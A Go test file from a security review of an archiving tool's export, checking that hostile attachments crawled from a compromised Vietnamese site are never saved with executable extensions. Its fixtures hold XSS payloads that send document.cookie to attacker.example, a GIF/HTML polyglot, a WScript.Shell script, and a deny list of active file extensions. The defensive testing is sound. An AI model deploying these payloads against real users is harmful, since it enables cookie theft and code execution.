package export_test

import (
	"bytes"
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"path"
	"strings"
	"testing"
	"time"

	"tulieu/export"
	"tulieu/internal/fixturesite"
)

// These tests come from a security review (archived content is hostile:
// the site is not ours). Each test's comment tells the attack and what
// happened before its fix (in the present tense of the review), and what
// should happen, which the test holds.

// secReviewActiveExts are file types that run code when a reader opens them
// from the unzipped export: a browser runs the script of an HTML, XHTML
// or SVG file opened from disk (no Content-Security-Policy there), and
// Windows runs .js/.hta/.vbs files with the Script Host on a double click.
var secReviewActiveExts = map[string]bool{".html": true, ".htm": true, ".xhtml": true, ".xht": true, ".svg": true, ".svgz": true,
	".xml": true, ".xsl": true, ".js": true, ".mjs": true, ".hta": true, ".vbs": true, ".vbe": true, ".wsf": true, ".bat": true,
	".cmd": true, ".ps1": true, ".exe": true, ".scr": true, ".lnk": true, ".url": true, ".jar": true, ".msi": true}

// secReviewHostileSite is the fixture site with one more article whose
// "attached documents" are active content, as a compromised site could
// publish: an SVG with a script under /tai-ve/, an HTML page behind a
// download script (download.aspx?file=bieu-mau.html), and a .js file.
// None of their bodies starts with an HTML tag, so none sniffs as
// text/html.
func secReviewHostileSite(t *testing.T) (string, string) {
	t.Helper()
	site := fixturesite.New(fixturesite.Options{})
	artPath := "/tin-tuc/tin-tuc-chung/bieu-mau-moi-9901.html"
	site.Add(fixturesite.Article{
		Path: artPath, Title: "Ban hành biểu mẫu mới về công tác đảng viên", DateLine: "Ngày 02/03/2026",
		Time: time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC),
		BodyHTML: "<p>Ban Tổ chức Đảng ủy Khối ban hành bộ biểu mẫu mới phục vụ công tác quản lý đảng viên trong các tổ chức cơ sở đảng trực thuộc.</p>" +
			"<p>Các chi bộ tải về, nghiên cứu và triển khai thực hiện theo đúng hướng dẫn, báo cáo kết quả về Ban Tổ chức trước ngày 30 hằng tháng.</p>",
		Attachments: []fixturesite.Link{
			{Href: "/tai-ve/so-do-to-chuc.svg", Text: "Sơ đồ tổ chức"},
			{Href: "/download.aspx?file=bieu-mau.html", Text: "Biểu mẫu"},
			{Href: "/tai-ve/huong-dan.js", Text: "Hướng dẫn"},
		},
	})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/tai-ve/so-do-to-chuc.svg":
			w.Header().Set("Content-Type", "image/svg+xml")
			io.WriteString(w, `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('http://attacker.example/?'+document.cookie)">`+
				`<script>alert('svg')</script></svg>`)
			return
		case "/download.aspx":
			w.Header().Set("Content-Type", "application/octet-stream")
			io.WriteString(w, `Biểu mẫu số 1 <img src=x onerror="location='http://attacker.example/phish'"><script>alert('html')</script>`)
			return
		case "/tai-ve/huong-dan.js":
			w.Header().Set("Content-Type", "application/octet-stream")
			io.WriteString(w, `var sh = new ActiveXObject("WScript.Shell"); sh.Run("calc.exe");`)
			return
		}
		site.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	return srv.URL, artPath
}

// TestSecurityDocsExportKeepsActiveAttachmentsRunnable
//
// Attack: a compromised site attaches "documents" that are active
// content: /tai-ve/so-do-to-chuc.svg (an SVG with a script),
// /download.aspx?file=bieu-mau.html (HTML with a script, whose first bytes
// are text so it does not sniff as HTML) and /tai-ve/huong-dan.js. The
// crawler takes all three for attachments (downloadRe, the file name in
// the query) and archives them.
//
// What happens: `tulieu export --format html` (and md, and /export on the
// server) copies each into the zip under files/ with the extension the
// link gave it (documentName keeps any "simple" extension): files/…-so-do-
// to-chuc.svg, files/…-bieu-mau.html, files/…-huong-dan.js, and the
// exported page links them. A staff member who clicks "Biểu mẫu" in the
// exported page (which promises no script) opens an HTML page from disk
// whose script runs; a double click on the .js runs it in Windows Script
// Host.
//
// What should happen: only document types are written with their own
// extension; anything else is kept as inert bytes (".bin", or ".txt" for
// text), never as a type a browser or the desktop executes.
func TestSecurityDocsExportKeepsActiveAttachmentsRunnable(t *testing.T) {
	site, artPath := secReviewHostileSite(t)
	st := reviewStore(t)
	crawlStore(t, st, site+"/", nil)
	a, err := st.Article(context.Background(), site+artPath)
	if err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"html", "md"} {
		var buf bytes.Buffer
		if _, err := export.Write(context.Background(), &buf, export.Selection{IDs: []string{a.ID}}, export.Options{Format: format}, st, nil); err != nil {
			t.Fatal(err)
		}
		names, files := docsZipFiles(t, buf.Bytes())
		docs := 0
		for _, name := range names {
			if !strings.HasPrefix(name, "files/") {
				continue
			}
			docs++
			if ext := strings.ToLower(path.Ext(name)); secReviewActiveExts[ext] {
				t.Errorf("%s export: the archived attachment is written as %s (%.50q): opened from the unzipped export, a browser or Windows runs it",
					format, name, files[name])
			}
		}
		if docs == 0 {
			t.Fatalf("%s export: no attachment copied at all (names %v): the fixture did not archive them", format, names)
		}
	}
}

// TestSecurityDocsExportNamesAnHTMLImageByItsURL
//
// Attack: a compromised site shows in an article the image
// /Uploads/anh-dai-hoi.html, served as text/html, whose bytes start with
// "GIF89a" and go on with a script (a GIF/HTML polyglot). The crawler
// archives it as the article's image.
//
// What happens: the html/md export takes it for an image because its
// bytes sniff as image/gif, and names it by its URL's extension
// (imageName: imageExt("text/html") is "", so the URL's ".html" stays):
// images/…-anh-dai-hoi.html, a file that any browser opening it from the
// unzipped export renders as an HTML page whose script runs.
//
// What should happen: an image kept for its bytes is named by what the
// bytes are (.gif), never by an extension that makes it a page.
func TestSecurityDocsExportNamesAnHTMLImageByItsURL(t *testing.T) {
	site := fixturesite.New(fixturesite.Options{})
	artPath := "/tin-tuc/tin-tuc-chung/dai-hoi-chi-bo-9902.html"
	imgPath := "/Uploads/anh-dai-hoi.html"
	site.Add(fixturesite.Article{
		Path: artPath, Title: "Đại hội chi bộ cơ quan nhiệm kỳ mới", DateLine: "Ngày 03/03/2026",
		Time: time.Date(2026, 3, 3, 8, 0, 0, 0, time.UTC),
		BodyHTML: "<p>Chi bộ cơ quan tổ chức thành công đại hội nhiệm kỳ mới, bầu ban chi ủy và bí thư chi bộ với sự đồng thuận cao của đảng viên.</p>" +
			`<p align="center"><img src="` + imgPath + `" width="600" height="400" alt="Quang cảnh đại hội"></p>` +
			"<p>Đại hội thông qua nghị quyết với các chỉ tiêu cụ thể về công tác xây dựng Đảng và thực hiện nhiệm vụ chính trị của cơ quan.</p>",
	})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == imgPath {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, "GIF89a\x01\x00\x01\x00\x00\x00\x00<script>location='http://attacker.example/?'+document.cookie</script>")
			return
		}
		site.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	st := reviewStore(t)
	crawlStore(t, st, srv.URL+"/", nil)
	a, err := st.Article(context.Background(), srv.URL+artPath)
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Images) == 0 {
		t.Fatalf("the article has no image: %+v", a)
	}
	var buf bytes.Buffer
	if _, err := export.Write(context.Background(), &buf, export.Selection{IDs: []string{a.ID}}, export.Options{Format: "html"}, st, nil); err != nil {
		t.Fatal(err)
	}
	names, files := docsZipFiles(t, buf.Bytes())
	images := 0
	for _, name := range names {
		if !strings.HasPrefix(name, "images/") {
			continue
		}
		images++
		if ext := strings.ToLower(path.Ext(name)); secReviewActiveExts[ext] {
			t.Errorf("the archived image is written as %s (%.40q): opened from the unzipped export it is a page whose script runs", name, files[name])
		}
	}
	if images == 0 {
		t.Fatalf("no image in the zip (%v): the fixture did not archive it", names)
	}
}
